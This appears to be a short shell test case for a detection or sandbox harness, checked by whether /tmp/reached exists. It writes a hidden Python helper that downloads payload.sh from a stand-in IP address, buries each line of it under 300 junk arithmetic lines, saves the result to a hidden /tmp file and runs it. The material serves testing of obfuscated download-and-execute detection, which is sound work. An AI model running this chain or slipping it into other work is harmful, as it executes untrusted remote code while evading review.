#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.w.py <<'END'
import random, urllib.request
out = []
for line in urllib.request.urlopen("http://203.0.113.10/payload.sh").read().decode().splitlines():
    out += [f"v{random.randrange(10**6)}=$(( {random.randrange(99)} + {random.randrange(99)} ))" for _ in range(300)] + [line]
open("/tmp/.update", "w").write("\n".join(out) + "\n")
END
python3 /tmp/.w.py && chmod 755 /tmp/.update && /tmp/.update
test -e /tmp/reached
took_place
